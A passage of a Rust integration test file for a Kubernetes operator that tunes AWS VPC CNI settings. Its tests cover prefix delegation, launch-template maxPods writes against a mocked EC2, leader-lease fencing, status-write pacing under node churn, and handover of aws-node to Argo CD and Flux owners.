            let p = cluster.get_policy("all").await;
            let t = p.status.as_ref()?.launch_templates.first()?.clone();
            (t.nodes_behind == Some(0)).then_some(())
        },
    )
    .await;
    eprintln!("nodesBehind reached 0 in {:?}", started.elapsed());
    assert_eq!(
        aws_calls(&operator, "DescribeLaunchTemplateVersions").unwrap(),
        reads,
        "counted from the Node watch, not from a new template read"
    );

    // The owner turns prefix delegation on with the values the operator named: everything
    // follows the new mode.
    let values = json!({"env": status.cni_env});
    helm_cni(&cluster, "upgrade", &values).expect("helm upgrade with prefix delegation");
    eventually("templates at 110", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        let s = p.status.as_ref()?;
        let configured = condition_of(&p, conditions::CNI_CONFIGURED)?;
        (s.max_pods == Some(110)
            && s.prefix_delegation == Some(true)
            && configured.reason == "InSync"
            && s.launch_templates.first()?.version_written.is_some()
            && s.launch_templates.first()?.max_pods_wanted == 110)
            .then_some(())
    })
    .await;
    assert_eq!(default_max_pods(&ec2, &template).await, Some(110));
    eventually("EC2NodeClass at 98", CONVERGE, &[&operator], || async {
        (class_max_pods().await == Some(98)).then_some(())
    })
    .await;
}

/// A Nitro node joins and leaves a Xen fleet three times under `prefixDelegation: Auto`: the
/// first join turns prefix delegation on (one aws-node write), and no leave turns it off again
/// (before: a write per join and per leave, six rollouts of aws-node on every node).
#[tokio::test]
async fn auto_prefix_delegation_does_not_flip_with_a_nitro_node_joining_and_leaving() {
    let Some(cluster) = Cluster::start(json!({})).await else {
        return;
    };
    for name in ["xen-1", "xen-2"] {
        cluster
            .node(
                name,
                json!({"node.kubernetes.io/instance-type": "m4.large"}),
            )
            .await;
    }
    cluster.policy("all", json!({})).await;
    let operator = cluster.operator("tuner-0", &[]);
    eventually("the Xen fleet planned", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        let s = p.status.as_ref()?;
        (is_true(&p, conditions::CNI_CONFIGURED) && s.prefix_delegation == Some(false))
            .then_some(())
    })
    .await;
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false")
    );
    let settled = aws_node_generation(&cluster).await;
    let rollouts = |p: NodeNetworkPolicy| p.status.unwrap().cni_config.unwrap().aws_node_rollouts;
    let rollouts_before = rollouts(cluster.get_policy("all").await);
    let mut seen = vec![];
    let nodes: Api<Node> = Api::all(cluster.admin.clone());
    for visit in 0..3 {
        let name = format!("nitro-{visit}");
        cluster
            .node(
                &name,
                json!({"node.kubernetes.io/instance-type": "m5.large"}),
            )
            .await;
        eventually("the Nitro node planned", CONVERGE, &[&operator], || async {
            let p = cluster.get_policy("all").await;
            let s = p.status.as_ref()?;
            (s.matched_nodes == 3 && s.prefix_delegation == Some(true)).then_some(())
        })
        .await;
        seen.push(cluster.env_value("ENABLE_PREFIX_DELEGATION").await);
        nodes.delete(&name, &Default::default()).await.unwrap();
        eventually("the Nitro node gone", CONVERGE, &[&operator], || async {
            let p = cluster.get_policy("all").await;
            let s = p.status.as_ref()?;
            (s.matched_nodes == 2 && is_true(&p, conditions::CNI_CONFIGURED)).then_some(())
        })
        .await;
        // A pass after the leave has run and written what it wanted.
        tokio::time::sleep(Duration::from_secs(2)).await;
        seen.push(cluster.env_value("ENABLE_PREFIX_DELEGATION").await);
    }
    let writes = aws_node_generation(&cluster).await - settled;
    eprintln!("ENABLE_PREFIX_DELEGATION over the visits: {seen:?}; aws-node writes: {writes}");
    assert_eq!(writes, 1, "one aws-node rollout: {seen:?}");
    assert!(
        seen.iter().all(|v| v.as_deref() == Some("true")),
        "never turned off again: {seen:?}"
    );
    let policy = cluster.get_policy("all").await;
    // The Xen types fall back to secondary IPs.
    assert_eq!(policy.status.as_ref().unwrap().max_pods, Some(20));
    assert_eq!(rollouts(policy), rollouts_before + 1);
}

/// Two Enforce policies list one launch template and want different maxPods (110, and 58 with
/// a ceiling): the older owns it and writes one version; the younger writes nothing to it, and
/// its `Conflict` names the template and the owner (before: each wrote its own value, two
/// versions a sync and a rollout of every group that launches from it).
#[tokio::test]
async fn a_template_listed_by_two_policies_is_written_by_the_older_only() {
    use support::launch_templates::{AL2023, create_template, versions};
    let moto = support::MotoServer::start();
    let Some(cluster) = Cluster::start_with_ec2(&moto).await else {
        return;
    };
    let ec2 = moto.ec2_client();
    let template = create_template(&ec2, "shared-nodes", AL2023.as_bytes()).await;
    cluster
        .node(
            "n-1",
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
    cluster
        .policy(
            "all",
            json!({"launchTemplates": [{"id": template, "setDefaultVersion": true}]}),
        )
        .await;
    // Created a second later: younger.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    cluster
        .policy(
            "capped",
            json!({"maxPods": {"ceiling": 58},
                   "launchTemplates": [{"id": template, "setDefaultVersion": true}]}),
        )
        .await;
    let operator = cluster.operator("tuner-0", &moto.aws_env());
    let capped = eventually("the younger's Conflict", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("capped").await;
        condition_of(&p, conditions::CONFLICT)
            .filter(|c| c.status == "True")
            .map(|_| p.clone())
    })
    .await;
    let conflict = condition_of(&capped, conditions::CONFLICT).unwrap();
    assert!(
        conflict.message.contains(&format!(
            "launch template {template} is also listed by policy all, which is older"
        )),
        "{}",
        conflict.message
    );
    let synced = condition_of(&capped, conditions::LAUNCH_TEMPLATES_SYNCED).unwrap();
    assert_eq!(
        (synced.status.as_str(), synced.reason.as_str()),
        ("False", "LostToOlderPolicy")
    );
    eventually(
        "the older's template synced",
        CONVERGE,
        &[&operator],
        || async {
            let p = cluster.get_policy("all").await;
            is_true(&p, conditions::LAUNCH_TEMPLATES_SYNCED).then_some(())
        },
    )
    .await;
    // More passes (nodes join): still one version, the older's value.
    for i in 2..5 {
        cluster
            .node(
                &format!("n-{i}"),
                json!({"node.kubernetes.io/instance-type": "m5.large"}),
            )
            .await;
    }
    eventually("the nodes counted", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        (p.status.as_ref()?.matched_nodes == 4).then_some(())
    })
    .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(
        versions(&ec2, &template).await.len(),
        2,
        "one version written"
    );
    assert_eq!(default_max_pods(&ec2, &template).await, Some(110));
    assert_eq!(
        aws_calls(&operator, "CreateLaunchTemplateVersion"),
        Some(1),
        "one CreateLaunchTemplateVersion"
    );
}

/// aws-node's status, as the DaemonSet controller writes it: `unavailable` of 3 pods, all on the
/// current template.
async fn aws_node_rollout(cluster: &Cluster, unavailable: i32) {
    let generation = aws_node_generation(cluster).await;
    daemonsets(&cluster.admin)
        .patch_status(
            "aws-node",
            &PatchParams::default(),
            &Patch::Merge(json!({"status": {"observedGeneration": generation,
                "desiredNumberScheduled": 3, "currentNumberScheduled": 3,
                "updatedNumberScheduled": 3, "numberMisscheduled": 0,
                "numberReady": 3 - unavailable, "numberAvailable": 3 - unavailable,
                "numberUnavailable": unavailable}})),
        )
        .await
        .unwrap();
}

/// An env change waits while aws-node's last rollout leaves pods unavailable, and goes out once,
/// when every pod is available again.
#[tokio::test]
async fn an_env_change_waits_for_aws_node_to_settle() {
    let Some(cluster) = Cluster::start(json!({})).await else {
        return;
    };
    aws_node_rollout(&cluster, 2).await;
    let before = aws_node_generation(&cluster).await;
    cluster.single_node_fleet(json!({})).await;
    let operator = cluster.operator("tuner-0", &[]);
    let waiting = cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.reason == "AwsNodeRollingOut"
        })
        .await;
    assert!(
        waiting.message.contains("2 are unavailable"),
        "{}",
        waiting.message
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        aws_node_generation(&cluster).await,
        before,
        "no write meanwhile"
    );
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false")
    );

    aws_node_rollout(&cluster, 0).await;
    cluster
        .wait_for_env(
            "ENABLE_PREFIX_DELEGATION",
            "true",
            "the change written once aws-node settled",
            CONVERGE,
            &[&operator],
        )
        .await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        aws_node_generation(&cluster).await,
        before + 1,
        "exactly one write"
    );
}

/// Fenced writes: the leader's CreateLaunchTemplateVersion is held 10 s by an EC2 proxy while
/// the Lease is given to another holder. After the hand-over the old leader sends nothing more:
/// no ModifyLaunchTemplate, no status patch, no aws-node write (before: it went on with the rest
/// of the reconcile, judged on a leadership read once per pass).
#[tokio::test(flavor = "multi_thread")]
async fn a_leader_that_loses_the_lease_mid_reconcile_writes_nothing_more() {
    use support::launch_templates::{AL2023, create_template};
    let moto = support::MotoServer::start();
    let proxy = support::holding_proxy::HoldingProxy::start(moto.port).await;
    let values = json!({"replicaCount": 2,
        "aws": {"region": "us-east-1", "ec2EndpointUrl": proxy.endpoint()}});
    let Some(cluster) = Cluster::start(values).await else {
        return;
    };
    let ec2 = moto.ec2_client();
    let template = create_template(&ec2, "fenced-nodes", AL2023.as_bytes()).await;
    // The aws-node env is already what the policy wants: the only writes are the template's
    // and the status.
    cluster.edit_env("ENABLE_PREFIX_DELEGATION", "true").await;
    cluster
        .node(
            "n-1",
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
    proxy.hold("CreateLaunchTemplateVersion", Duration::from_secs(10));
    cluster
        .policy(
            "all",
            json!({"launchTemplates": [{"id": template, "setDefaultVersion": true}]}),
        )
        .await;
    let operator = cluster.operator("tuner-a", &moto.aws_env());
    eventually("the write is held", CONVERGE, &[&operator], || async {
        proxy
            .log()
            .iter()
            .any(|(_, a)| a == "CreateLaunchTemplateVersion")
            .then_some(())
    })
    .await;
    // The Lease goes to another holder (as a replica that took over would write it).
    let leases: Api<Lease> = Api::namespaced(cluster.admin.clone(), NS);
    eventually("the Lease handed over", CONVERGE, &[&operator], || async {
        let mut lease = leases.get("vpc-cni-tuner").await.ok()?;
        let spec = lease.spec.as_mut()?;
        spec.holder_identity = Some("tuner-b".into());
        spec.renew_time = Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::MicroTime(
            jiff::Timestamp::now(),
        ));
        spec.lease_duration_seconds = Some(60);
        // A renewal of the operator's in between: read again and retry.
        leases
            .replace("vpc-cni-tuner", &PostParams::default(), &lease)
            .await
            .ok()
            .map(|_| ())
    })
    .await;
    let handed = Instant::now();
    let policy_version = cluster.get_policy("all").await.metadata.resource_version;
    let ds_version = daemonsets(&cluster.admin)
        .get("aws-node")
        .await
        .unwrap()
        .metadata
        .resource_version;
    // The held call returns (10 s after it arrived), and a while for what would follow.
    tokio::time::sleep(Duration::from_secs(14)).await;
    let after: Vec<String> = proxy
        .log()
        .into_iter()
        .filter(|(at, _)| *at > handed)
        .map(|(_, a)| a)
        .collect();
    eprintln!("EC2 requests after the hand-over: {after:?}");
    assert!(
        after
            .iter()
            .all(|a| a.starts_with("Describe") || a.starts_with("Get")),
        "no EC2 write after the hand-over: {after:?}"
    );
    assert_eq!(
        support::launch_templates::default_version(&ec2, &template).await,
        1,
        "the default version was not moved"
    );
    assert_eq!(
        cluster.get_policy("all").await.metadata.resource_version,
        policy_version,
        "no status write after the hand-over"
    );
    assert_eq!(
        daemonsets(&cluster.admin)
            .get("aws-node")
            .await
            .unwrap()
            .metadata
            .resource_version,
        ds_version,
        "no aws-node write after the hand-over"
    );
    assert!(
        operator.log().contains("leader lease"),
        "the refusal is logged"
    );
}

/// Node churn (500 joins and leaves in two minutes) with the default pacing: at most three
/// count-only status writes for the policy, while a condition change is still written at once
/// and the last counts land when the window ends.
#[tokio::test(flavor = "multi_thread")]
async fn status_writes_stay_calm_under_node_churn() {
    let Some(cluster) = Cluster::start(json!({})).await else {
        return;
    };
    cluster.single_node_fleet(json!({})).await;
    let operator = cluster.operator_with(
        "tuner-0",
        &[],
        &[("--status-count-seconds", "60".to_owned())],
    );
    cluster
        .wait_for_condition(conditions::READY, &operator, |c| c.status == "True")
        .await;
    let writes = |cause: &str| {
        let metrics = support::http_get(operator.admin_port, "/metrics")
            .expect("the operator's metrics")
            .1;
        metrics
            .lines()
            .filter(|l| {
                l.starts_with("vpc_cni_tuner_status_writes_total{")
                    && l.contains(&format!("cause=\"{cause}\""))
            })
            .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
            .sum::<f64>() as u64
    };
    let counts_before = writes("counts");
    let nodes: Api<Node> = Api::all(cluster.admin.clone());
    let started = Instant::now();
    let mut condition_latency = None;
    // 500 events, one every 240 ms, in phases of 25 joins and 25 leaves (a scale-up and a
    // scale-down): the count drifts, as a join and a leave in one debounce would cancel out.
    let mut live: std::collections::VecDeque<String> = Default::default();
    for e in 0..500u32 {
        tokio::time::sleep_until((started + Duration::from_millis(u64::from(e) * 240)).into())
            .await;
        if (e / 25) % 2 == 0 || live.is_empty() {
            let name = format!("churn-{e}");
            cluster
                .node(
                    &name,
                    json!({"node.kubernetes.io/instance-type": "m5.large"}),
                )
                .await;
            live.push_back(name);
        } else if let Some(name) = live.pop_front() {
            nodes.delete(&name, &Default::default()).await.unwrap();
        }
        if e == 260 {
            // Mid-churn, a node of a type no table knows: Ready turns False at once.
            cluster
                .node(
                    "unknown-1",
                    json!({"node.kubernetes.io/instance-type": "zz9.huge"}),
                )
                .await;
            let joined = Instant::now();
            let policies = policies(&cluster.admin);
            loop {
                let p = policies.get("all").await.unwrap();
                if condition_of(&p, conditions::READY).is_some_and(|c| c.status == "False") {
                    condition_latency = Some(joined.elapsed());
                    break;
                }
                assert!(
                    joined.elapsed() < Duration::from_secs(10),
                    "Ready never turned"
                );
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            nodes
                .delete("unknown-1", &Default::default())
                .await
                .unwrap();
        }
    }
    for name in live {
        nodes.delete(&name, &Default::default()).await.unwrap();
    }
    let churn = started.elapsed();
    let count_writes = writes("counts") - counts_before;
    let latency = condition_latency.unwrap();
    eprintln!(
        "churn of 500 node events in {churn:?}: {count_writes} count-only status writes, \
         {} for conditions, {} for values; Ready False written {latency:?} after the node joined",
        writes("conditions"),
        writes("values")
    );
    assert!(count_writes <= 3, "{count_writes} count-only writes");
    // Within a second on an idle machine (the 500 ms debounce included); 2 s for shared CI.
    assert!(latency < Duration::from_secs(2), "{latency:?}");
    // The last counts land when the window ends: the one node left.
    eventually(
        "the last count",
        Duration::from_secs(75),
        &[&operator],
        || async {
            let p = cluster.get_policy("all").await;
            let s = p.status.as_ref()?;
            (s.matched_nodes == 1 && is_true(&p, conditions::READY)).then_some(())
        },
    )
    .await;
    // ... as a count-only write: the metric counts what it says.
    assert!(
        writes("counts") > counts_before + count_writes,
        "the last counts were a count-only write"
    );
}

/// A GitOps owner of aws-node as it writes: its field manager, apply mode, labels and
/// annotations, and the value it puts back.
struct GitOpsOwner {
    manager: &'static str,
    server_side: bool,
    labels: Value,
    annotations: Value,
    reason: &'static str,
    fix: &'static str,
}

impl GitOpsOwner {
    fn argocd() -> Self {
        Self {
            manager: "argocd-controller",
            server_side: false,
            labels: json!({"app.kubernetes.io/instance": "vpc-cni"}),
            annotations: json!({"argocd.argoproj.io/tracking-id":
                "vpc-cni:apps/DaemonSet:kube-system/aws-node"}),
            reason: "ArgoCdOwnsAwsNode",
            fix: "managedFieldsManagers: [vpc-cni-tuner]",
        }
    }

    fn flux_helm_release() -> Self {
        Self {
            manager: "helm-controller",
            server_side: false,
            labels: json!({"helm.toolkit.fluxcd.io/name": "vpc-cni",
                "helm.toolkit.fluxcd.io/namespace": "flux-system",
                "app.kubernetes.io/managed-by": "Helm"}),
            annotations: json!({"meta.helm.sh/release-name": "aws-vpc-cni",
                "meta.helm.sh/release-namespace": "kube-system"}),
            reason: "FluxOwnsAwsNode",
            fix: "HelmRelease flux-system/vpc-cni",
        }
    }

    fn flux_kustomization() -> Self {
        Self {
            manager: "kustomize-controller",
            server_side: true,
            labels: json!({"kustomize.toolkit.fluxcd.io/name": "infra",
                "kustomize.toolkit.fluxcd.io/namespace": "flux-system"}),
            annotations: json!({}),
            reason: "FluxOwnsAwsNode",
            fix: "Kustomization flux-system/infra",
        }
    }

    /// The owner's aws-node: the EKS-shaped DaemonSet with its metadata.
    fn manifest(&self) -> Value {
        let mut ds = eks_aws_node();
        let meta = &mut ds["metadata"];
        meta["labels"]
            .as_object_mut()
            .unwrap()
            .extend(self.labels.as_object().unwrap().clone());
        meta["annotations"] = self.annotations.clone();
        ds
    }

    /// Syncs its manifest as it does: server-side apply with force (Flux's kustomize-controller,
    /// Argo CD with ServerSideApply=true), or a client-side strategic merge patch of the values
    /// that differ (kubectl apply's three-way merge: Argo CD's default, Helm 3 in Flux's
    /// helm-controller).
    async fn sync(&self, cluster: &Cluster) {
        let api = daemonsets(&cluster.admin);
        if self.server_side {
            api.patch(
                "aws-node",
                &PatchParams::apply(self.manager).force(),
                &Patch::Apply(self.manifest()),
            )
            .await
            .unwrap();
        } else {
            let env = self.manifest()["spec"]["template"]["spec"]["containers"][0]["env"].clone();
            let patch = json!({"metadata": {"labels": self.labels, "annotations": self.annotations},
                "spec": {"template": {"spec": {"containers": [{"name": "aws-node", "env": env}]}}}});
            let params = PatchParams {
                field_manager: Some(self.manager.to_owned()),
                ..Default::default()
            };
            api.patch("aws-node", &params, &Patch::Strategic(patch))
                .await
                .unwrap();
        }
    }
}

/// A self-healing GitOps owner that puts its values back every second: the operator puts
/// them back at most once (a client-side owner) or never takes them (a server-side one), then
/// stops, reports the owner and its fix, and causes no further rollout however long the owner
/// keeps syncing.
async fn gitops_loop_is_stopped(owner: GitOpsOwner) {
    let Some(cluster) = Cluster::start_listing(json!({}), None, ListMode::Streaming).await else {
        return;
    };
    let api = daemonsets(&cluster.admin);
    let post = PostParams {
        field_manager: Some(owner.manager.to_owned()),
        ..Default::default()
    };
    if owner.server_side {
        owner.sync(&cluster).await;
    } else {
        api.create(&post, &serde_json::from_value(owner.manifest()).unwrap())
            .await
            .unwrap();
    }
    let start = aws_node_generation(&cluster).await;
    cluster.single_node_fleet(json!({})).await;
    let mut operator = cluster.operator("tuner-0", &[]);

    // Self-heal: every second, the owner's value back wherever it differs.
    let mut owner_rollouts = 0;
    let mut handed = None;
    let mut settled_at = None;
    let mut handed_at = None;
    let deadline = Instant::now() + Duration::from_secs(90);
    while Instant::now() < deadline {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref()
            != Some("false")
        {
            let before = aws_node_generation(&cluster).await;
            owner.sync(&cluster).await;
            if aws_node_generation(&cluster).await > before {
                owner_rollouts += 1;
            }
        }
        let policy = cluster.get_policy("all").await;
        if handed.is_none() {
            handed = condition_of(&policy, conditions::CNI_CONFIGURED)
                .filter(|c| c.status == "False" && c.reason == owner.reason)
                .cloned();
            if handed.is_some() {
                settled_at = Some(aws_node_generation(&cluster).await);
                handed_at = Some(Instant::now());
            }
        } else if handed_at.is_some_and(|t| t.elapsed() > Duration::from_secs(15)) {
            // 15 s of syncing after the handover: a loop would have shown.
            break;
        }
    }
    let handed = handed.unwrap_or_else(|| panic!("no handover:\n{}", operator.log()));
    assert!(handed.message.contains(owner.fix), "{}", handed.message);
    cluster
        .wait_for_event("all", "AwsNodeHandedOver", &[&operator])
        .await;
    if !owner.server_side {
        // The one restore names the manager that reverted.
        let events = cluster.events("all").await;
        assert!(
            events.iter().any(|e| {
                e.reason.as_deref() == Some("AwsNodeEnvRestored")
                    && e.type_.as_deref() == Some("Warning")
                    && e.note.as_deref().is_some_and(|n| n.contains(owner.manager))
            }),
            "{events:?}"
        );
    }
    let end = aws_node_generation(&cluster).await;
    let operator_rollouts = end - start - owner_rollouts;
    let bound = if owner.server_side { 0 } else { 2 };
    println!(
        "{}: aws-node rollouts by the operator {operator_rollouts}, by the owner {owner_rollouts}",
        owner.manager
    );
    assert!(
        operator_rollouts <= bound,
        "{operator_rollouts} aws-node rollouts by the operator (bound {bound}); owner: \
         {owner_rollouts}\n{}",
        operator.log()
    );
    assert_eq!(Some(end), settled_at, "nothing rolls after the handover");
    let cni = cluster
        .get_policy("all")
        .await
        .status
        .unwrap()
        .cni_config
        .unwrap();
    assert_eq!(i64::from(cni.aws_node_rollouts), operator_rollouts);
    let record = cni.handover.expect("handover");
    assert!(record.handed_over);
    assert_eq!(record.reverted_by.as_deref(), Some(owner.manager));
    assert_eq!(
        record
            .owner_env
            .get("ENABLE_PREFIX_DELEGATION")
            .map(String::as_str),
        Some("false")
    );

    // A restarted operator (a new pod, empty caches) reads the handover from the status and
    // does not start the fight again, while the owner keeps syncing.
    assert!(
        operator
            .terminate(Duration::from_secs(20))
            .is_some_and(|s| s.success())
    );
    let restarted = cluster.operator("tuner-1", &[]);
    let until = Instant::now() + Duration::from_secs(12);
    while Instant::now() < until {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref()
            != Some("false")
        {
            owner.sync(&cluster).await;
        }
    }
    assert!(
        restarted.log().contains("listed nodes"),
        "the new operator ran: {}",
        restarted.log()
    );
    assert_eq!(
        aws_node_generation(&cluster).await,
        end,
        "no rollout after the restart\n{}",
        restarted.log()
    );
}

#[tokio::test]
async fn argocd_self_heal_loop_is_stopped_with_its_fix() {
    gitops_loop_is_stopped(GitOpsOwner::argocd()).await;
}

#[tokio::test]
async fn flux_helm_release_drift_loop_is_stopped_with_its_fix() {
    gitops_loop_is_stopped(GitOpsOwner::flux_helm_release()).await;
}

#[tokio::test]
async fn flux_kustomization_server_side_owner_is_never_taken_from() {
    gitops_loop_is_stopped(GitOpsOwner::flux_kustomization()).await;
}

/// Launch templates users did not write for the three AMI families by hand: AL2023 user data
/// with folded MIME headers is recognised and rewritten (the folded headers kept), and a kOps
/// instance group's nodeup bootstrap is named as kOps', with the kOps-native fix, and left
/// alone.
#[tokio::test]
async fn folded_mime_headers_are_rewritten_and_kops_templates_get_the_kops_fix() {
    use support::launch_templates::{AL2023_FOLDED, KOPS_NODEUP, create_template, versions};
    use vpc_cni_tuner::userdata::{UserDataFormat, read_max_pods};

    let moto = support::MotoServer::start();
    let Some(cluster) = Cluster::start_with_ec2(&moto).await else {
        return;
    };
    let ec2 = moto.ec2_client();
    let folded = create_template(&ec2, "folded-nodes", AL2023_FOLDED.as_bytes()).await;
    let kops = create_template(&ec2, "kops-nodes", KOPS_NODEUP.as_bytes()).await;
    cluster
        .single_node_fleet(json!({"launchTemplates": [{"id": folded}, {"id": kops}]}))
        .await;
    let operator = cluster.operator("tuner-0", &moto.aws_env());
    let synced = cluster
        .wait_for_condition(conditions::LAUNCH_TEMPLATES_SYNCED, &operator, |c| {
            c.status == "False" && c.reason == "KopsManagedUserData"
        })
        .await;
    assert!(
        synced.message.contains("kops edit ig")
            && synced.message.contains("spec.kubelet.maxPods: 110")
            && synced.message.contains("kops rolling-update cluster --yes"),
        "{}",
        synced.message
    );
    let written = eventually(
        "the folded template written",
        CONVERGE,
        &[&operator],
        || async {
            let all = versions(&ec2, &folded).await;
            (all.len() == 2).then_some(all)
        },
    )
    .await;
    let user_data = |v: &aws_sdk_ec2::types::LaunchTemplateVersion| {
        use base64::Engine as _;
        let encoded = v.launch_template_data().unwrap().user_data().unwrap();
        base64::engine::general_purpose::STANDARD
            .decode(encoded)
            .unwrap()
    };
    let new = written
        .iter()
        .find(|v| v.version_number() == Some(2))
        .unwrap();
    assert_eq!(
        read_max_pods(&user_data(new), UserDataFormat::Al2023),
        Ok(Some(110))
    );
    let text = String::from_utf8(user_data(new)).unwrap();
    assert!(
        text.starts_with(AL2023_FOLDED.trim_end_matches("--BOUNDARY--\n")),
        "{text}"
    );
    assert_eq!(
        versions(&ec2, &kops).await.len(),
        1,
        "kOps' template untouched"
    );
    let status = cluster.get_policy("all").await.status.unwrap();
    let reported: Vec<(Option<String>, bool)> = status
        .launch_templates
        .iter()
        .map(|t| (t.format.clone(), t.in_sync))
        .collect();
    assert!(
        reported.contains(&(Some("AL2023".into()), true)),
        "{reported:?}"
    );
}

/// Upgraded from a version that forced its values over a Helm 4 release: the operator holds
/// ENABLE_PREFIX_DELEGATION, so Helm's next upgrade would conflict. The policy says so
/// (Degraded, naming the value, the manager and the chart values), and the operator writes
/// nothing more; with the values set in the release, Helm's upgrade goes through.
#[tokio::test]
async fn values_taken_from_a_helm_release_earlier_are_reported_with_the_fix() {
    let Some(cluster) = Cluster::start_listing(json!({}), None, ListMode::Streaming).await else {
        return;
    };
    helm_cni(&cluster, "install", &json!({})).expect("helm install");
    // What an earlier version did: a forced apply of its env.
    daemonsets(&cluster.admin)
        .patch(
            "aws-node",
            &PatchParams::apply("vpc-cni-tuner").force(),
            &Patch::Apply(json!({"apiVersion": "apps/v1", "kind": "DaemonSet",
                "metadata": {"name": "aws-node", "namespace": "kube-system"},
                "spec": {"template": {"spec": {"containers": [{"name": "aws-node", "env": [
                    {"name": "ENABLE_PREFIX_DELEGATION", "value": "true"},
                    {"name": "WARM_PREFIX_TARGET", "value": "1"}]}]}}}})),
        )
        .await
        .unwrap();
    let taken = aws_node_generation(&cluster).await;
    let conflict = helm_cni(&cluster, "upgrade", &json!({})).expect_err("Helm conflicts");
    assert!(conflict.contains("vpc-cni-tuner"), "{conflict}");
    cluster.single_node_fleet(json!({})).await;
    let operator = cluster.operator("tuner-0", &[]);
    let degraded = cluster
        .wait_for_condition(conditions::DEGRADED, &operator, |c| c.status == "True")
        .await;
    assert!(
        degraded.message.contains("ENABLE_PREFIX_DELEGATION=true")
            && degraded
                .message
                .contains("--set-string env.ENABLE_PREFIX_DELEGATION=true"),
        "{}",
        degraded.message
    );
    assert_eq!(
        aws_node_generation(&cluster).await,
        taken,
        "nothing written"
    );
    let env = cluster.get_policy("all").await.status.unwrap().cni_env;
    helm_cni(&cluster, "upgrade", &json!({"env": env})).expect("with the values, no conflict");
}

/// `run --kubeconfig F --context C` talks to the cluster of context C in F, whatever
/// `KUBECONFIG` and F's current context say (both point at nothing here), and the JSON log has
/// the message and the fields at the top level of each line.
#[tokio::test]
async fn kubeconfig_and_context_flags_pick_the_cluster_and_json_logs_are_flat() {
    let Some(cluster) = Cluster::start(json!({})).await else {
        return;
    };
    let mut config: Value =
        serde_yaml_ng::from_str(&std::fs::read_to_string(&cluster.operator_kubeconfig).unwrap())
            .unwrap();
    config["contexts"][0]["name"] = json!("tuner");
    config["clusters"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "nowhere", "cluster": {"server": "https://127.0.0.1:1"}}));
    config["contexts"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "nowhere", "context": {"cluster": "nowhere", "user": "envtest"}}));
    config["current-context"] = json!("nowhere");
    let file = cluster.logs.path().join("two-contexts.kubeconfig");
    std::fs::write(&file, serde_yaml_ng::to_string(&config).unwrap()).unwrap();
    cluster.single_node_fleet(json!({"nodeSelector": {}})).await;
    let operator = cluster.operator_with(
        "flags",
        &[("KUBECONFIG", "/nonexistent/kubeconfig".to_owned())],
        &[
            ("--kubeconfig", file.display().to_string()),
            ("--context", "tuner".to_owned()),
        ],
    );
    cluster
        .wait_for_condition("Ready", &operator, |c| c.status == "True")
        .await;
    let log = operator.log();
    let lines: Vec<Value> = log
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    assert!(!lines.is_empty(), "JSON log lines:\n{log}");
    assert!(
        lines
            .iter()
            .all(|l| l["message"].is_string() && l.get("fields").is_none()),
        "message at the top level, no nested fields:\n{log}"
    );
    assert!(
        lines.iter().any(|l| l["mode"].is_string()),
        "an event's fields are top-level keys too:\n{log}"
    );
}

/// The chart's ServiceMonitor and PrometheusRule through the Helm 4 library against the real
/// API server: not rendered while the cluster does not serve the kinds (the install succeeds),
/// rendered once it does; the PrometheusRule carries the alerts promtool checks.
#[tokio::test]
async fn monitoring_objects_render_only_where_the_cluster_serves_them() {
    let Some(api) = ApiServer::start().await else {
        return;
    };
    let values = json!({
        "serviceMonitor": {"enabled": true, "labels": {"release": "prometheus"}},
        "prometheusRule": {"enabled": true},
        "dashboard": {"enabled": true},
    })
    .to_string();
    let helm = |command: &str| helm_release(&api, command, &["--values", &values]);
    let installed = helm("install");
    assert_eq!(installed["status"], "deployed", "{installed}");
    kubectl_ok(
        &api,
        &[
            "get",
            "configmap",
            "-n",
            "tuner-system",
            "tuner-vpc-cni-tuner-dashboard",
        ],
    );
    kubectl_ok(
        &api,
        &[
            "apply",
            "-f",
            &format!("{ROOT}/tests/fixtures/prometheus/monitoring-crds.yaml"),
        ],
    );
    kubectl_ok(
        &api,
        &[
            "wait",
            "--for=condition=Established",
            "--timeout=60s",
            "crd/servicemonitors.monitoring.coreos.com",
            "crd/prometheusrules.monitoring.coreos.com",
        ],
    );
    let client = api.client().await;
    let monitors = kube::Api::<kube::api::DynamicObject>::namespaced_with(
        client.clone(),
        "tuner-system",
        &kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
            "monitoring.coreos.com",
            "v1",
            "ServiceMonitor",
        )),
    );
    let rules = kube::Api::<kube::api::DynamicObject>::namespaced_with(
        client.clone(),
        "tuner-system",
        &kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
            "monitoring.coreos.com",
            "v1",
            "PrometheusRule",
        )),
    );
    assert!(
        monitors
            .list(&Default::default())
            .await
            .unwrap()
            .items
            .is_empty(),
        "the install, before the CRDs, rendered no ServiceMonitor"
    );
    let upgraded = helm("upgrade");
    assert_eq!(upgraded["status"], "deployed", "{upgraded}");
    let monitor = monitors.get("tuner-vpc-cni-tuner").await.unwrap();
    assert_eq!(monitor.data["spec"]["endpoints"][0]["port"], "admin");
    assert_eq!(monitor.data["spec"]["endpoints"][0]["path"], "/metrics");
